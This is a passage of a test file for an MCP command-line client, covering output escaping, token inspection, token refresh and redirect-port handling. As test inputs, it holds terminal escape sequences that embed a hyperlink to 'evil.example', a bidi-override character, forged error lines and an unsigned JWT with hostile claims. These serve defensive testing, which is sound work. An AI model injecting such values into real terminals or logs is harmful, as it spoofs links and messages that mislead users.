      assert.match(errLines[0], /\\x1b\[1mboom\\x1b\[0m\\nerror \[authorization_denied\]: forged line/);
    });

    it('elicitation: the declined note escapes the server message and field names', async () => {
      const fx = await startMcpServer({
        resourcesAndPrompts: false,
        tools: [
          {
            def: { name: 'ask', inputSchema: { type: 'object' } },
            handler: async (_args, extra) => {
              const res = await extra.server.elicitInput({
                message: `Your details\u001b]8;;https://evil.example\u0007\nerror [internal]: forged`,
                requestedSchema: { type: 'object', properties: { 'na\u202eme': { type: 'string' } } },
              });
              return { content: [{ type: 'text', text: res.action }] };
            },
          },
        ],
      });
      try {
        const r = await run(['call', fx.url.href, 'ask']);
        assert.equal(r.code, 0, r.stderr);
        assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
        assert.equal(lines(r.stderr).length, 1, r.stderr);
        assert.match(r.stderr, /asks for input \(na\\u202eme\): Your details\\x1b\]8;;https:\/\/evil\.example\\x07\\nerror \[internal\]: forged — declined/);
      } finally {
        await fx.close();
      }
    });
  });
});

describe('CLI token, refresh and redirect port', function () {
  this.timeout(30_000);
  let fx: Fixture;

  before(async () => {
    if (cli && existsSync(cli)) return;
    dir = mkdtempSync(join(tmpdir(), 'mcp-cli-test-'));
    cli = join(dir, 'cli.js');
    await esbuild.build({ absWorkingDir: ROOT, entryPoints: ['src/cli/main.ts'], outfile: cli, bundle: true, platform: 'node', target: 'node20', format: 'cjs', logLevel: 'silent' });
  });
  after(() => rmSync(dir, { recursive: true, force: true }));
  afterEach(() => fx?.close());

  const leaks = (text: string) => fx.allSecrets().filter((s) => s.length >= 8 && text.includes(s));

  /** An access token that is a JWT for another audience, unsigned, with hostile claims: its inspection fails. */
  function jwtTokenResponse(): string {
    const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
    const jwt = `${b64({ alg: 'none', typ: 'at+jwt' })}.${b64({ iss: fx.issuer, aud: 'https://other.example/', sub: 'user\u001b]8;;https://evil.example\u0007\nerror [internal]: forged', scope: 'mcp:tools', exp: Math.floor(Date.now() / 1000) + 3600 })}.`;
    return JSON.stringify({ access_token: jwt, token_type: 'Bearer', expires_in: 3600, scope: 'mcp:tools' });
  }

  it('token exits 0 when the inspection ran, even with failing findings; --fail-on fail|warn → exit 3; claims are escaped', async () => {
    fx = await startOAuthFixture({ anonymousTools: true });
    fx.intercept = (server, req, res) => {
      if (server !== 'as' || !req.path.startsWith('/token')) return false;
      res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' }).end(jwtTokenResponse());
      return true;
    };
    const r = await run(['token', fx.mcpUrl, '--headless']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^ {2}\[fail\] /m, 'the inspection found failures');
    assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
    assert.match(r.stdout, /^ {2}subject: user\\x1b\]8;;https:\/\/evil\.example\\x07\\nerror \[internal\]: forged; audience: https:\/\/other\.example\//m);
    assert.equal(r.stdout.split('\n').filter((l) => l.startsWith('error')).length, 0, 'no forged line');

    const failOn = await run(['token', fx.mcpUrl, '--headless', '--fail-on', 'fail']);
    assert.equal(failOn.code, 3, failOn.stderr);
    assert.match(failOn.stdout, /^Token for /);
    const warnJson = await run(['token', fx.mcpUrl, '--headless', '--fail-on', 'warn', '--json']);
    assert.equal(warnJson.code, 3, warnJson.stderr);
    assert.ok((JSON.parse(warnJson.stdout) as { inspection: { findings: unknown[] } }).inspection.findings.length > 0);
    const bad = await run(['token', fx.mcpUrl, '--headless', '--fail-on', 'sometimes']);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /^error \[config_invalid\]: unknown --fail-on level "sometimes"/);
  });

  it('token --fail-on fail exits 0 when nothing fails', async () => {
    fx = await startOAuthFixture({ requiredScopes: ['mcp:tools'] });
    const r = await run(['token', fx.mcpUrl, '--headless', '--fail-on', 'fail']);
    assert.equal(r.code, 0, r.stderr + r.stdout);
    assert.doesNotMatch(r.stdout, /\[fail\]/);
  });

  it('refresh uses the stored refresh token, stores the new tokens, prints no secret', async () => {
    fx = await startOAuthFixture({ requiredScopes: ['mcp:tools'] });
    const store = join(dir, `refresh-${Date.now()}.json`);
    const first = await run(['connect', fx.mcpUrl, '--headless', '--store', store]);
    assert.equal(first.code, 0, first.stderr);
    const authorizeCount = fx.counters.authorize;
    const r = await run(['refresh', fx.mcpUrl, '--store', store]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(fx.counters.refresh, 1);
    assert.equal(fx.counters.authorize, authorizeCount, 'no new sign-in');
    assert.match(r.stdout, /^Refreshed the token for http:\/\/127\.0\.0\.1:\d+\/mcp at http:\/\/127\.0\.0\.1:\d+\n {2}scopes: mcp:tools; expires: \S+; refresh token: rotated\n/);
    const latest = fx.issued.accessTokens[fx.issued.accessTokens.length - 1];
    assert.ok(readFileSync(store, 'utf8').includes(latest), 'the new access token is stored');
    assert.deepEqual(leaks(r.stdout + r.stderr), []);

    const j = await run(['refresh', fx.mcpUrl, '--store', store, '--json']);
    assert.equal(j.code, 0, j.stderr);
    const out = JSON.parse(j.stdout) as { refreshed: boolean; refreshTokenRotated: boolean; auth: { signedIn: boolean } };
    assert.deepEqual([out.refreshed, out.refreshTokenRotated, out.auth.signedIn], [true, true, true]);
    assert.deepEqual(leaks(j.stdout + j.stderr), []);
  });

  it('refresh: without --store, with no stored sign-in, or with no refresh token → a clear error', async () => {
    fx = await startOAuthFixture({ requiredScopes: ['mcp:tools'], issueRefreshTokens: false });
    const noStore = await run(['refresh', fx.mcpUrl]);
    assert.equal(noStore.code, 1);
    assert.match(noStore.stderr, /^error \[config_invalid\]: refresh needs the sign-in stored with --store/);

    const empty = join(dir, `empty-${Date.now()}.json`);
    const none = await run(['refresh', fx.mcpUrl, '--store', empty]);
    assert.equal(none.code, 1);
    assert.match(none.stderr, /^error \[authorization_required\]: token refresh: .* holds no sign-in for http:\/\/127\.0\.0\.1:\d+\/mcp.*connect/);
    assert.equal(fx.counters.token, 0);

    const store = join(dir, `norefresh-${Date.now()}.json`);
    assert.equal((await run(['connect', fx.mcpUrl, '--headless', '--store', store])).code, 0);
    const tokenRequests = fx.counters.token;
    const r = await run(['refresh', fx.mcpUrl, '--store', store]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /^error \[refresh_failed\]: token refresh: the sign-in stored for .* has no refresh token/);
    assert.equal(fx.counters.token, tokenRequests, 'no token request');
  });

  it('--redirect-port: the loopback receiver listens on that port and the redirect URI says so; a taken port is a clear error', async () => {
    fx = await startOAuthFixture({ requiredScopes: ['mcp:tools'] });
    const port = await freePort();
    fx.addClient({ client_id: 'pre-registered', token_endpoint_auth_method: 'none', redirect_uris: [`http://127.0.0.1:${port}/callback`] });
    const r = await run(['connect', fx.mcpUrl, '--headless', '--registration', 'preregistered', '--client-id', 'pre-registered', '--redirect-port', String(port)]);
    assert.equal(r.code, 0, r.stderr);
    const authorize = fx.requests.find((q) => q.server === 'as' && q.path.startsWith('/authorize'));
    assert.equal(new URL(authorize!.path, fx.issuer).searchParams.get('redirect_uri'), `http://127.0.0.1:${port}/callback`);

    const taken = createServer();
    await new Promise<void>((res) => taken.listen(port, '127.0.0.1', res));
    try {
      const before = fx.counters.authorize;
      const busy = await run(['connect', fx.mcpUrl, '--headless', '--registration', 'preregistered', '--client-id', 'pre-registered', '--redirect-port', String(port)]);
      assert.equal(busy.code, 1);
      assert.match(busy.stderr, new RegExp(`^error \\[network_error\\]: authorization callback: Could not listen on 127\\.0\\.0\\.1:${port} .*EADDRINUSE.*Port ${port} may be in use`));
      assert.equal(fx.counters.authorize, before, 'no browser was sent anywhere');
    } finally {
      await new Promise<void>((res) => taken.close(() => res()));
    }
    for (const bad of ['0', '65536', 'http', '-1']) {
      const b = await run(['connect', fx.mcpUrl, `--redirect-port=${bad}`]);
      assert.equal(b.code, 1, bad);
      assert.match(b.stderr, /^error \[config_invalid\]: --redirect-port must be a whole number from 1 to 65535/);
    }
  });

  it('--help says --scopes is merged with the challenge, lists refresh, --redirect-port, the caps and the exit codes', async () => {
    const r = await run(['--help']);
    assert.equal(r.code, 0);
    assert.match(r.stdout, /--scopes "<a b>" +scopes to request, merged with what the server's challenge asks for/);
    assert.match(r.stdout, /^ {2}refresh <url> /m);
    assert.match(r.stdout, /--redirect-port <n>/);
    assert.match(r.stdout, /--max-pages <n>/);
    assert.match(r.stdout, /--fail-on <level>/);
    assert.match(r.stdout, /Exit status: 0 the command ran \(token: the inspection ran, whatever it found\)/);
  });
});
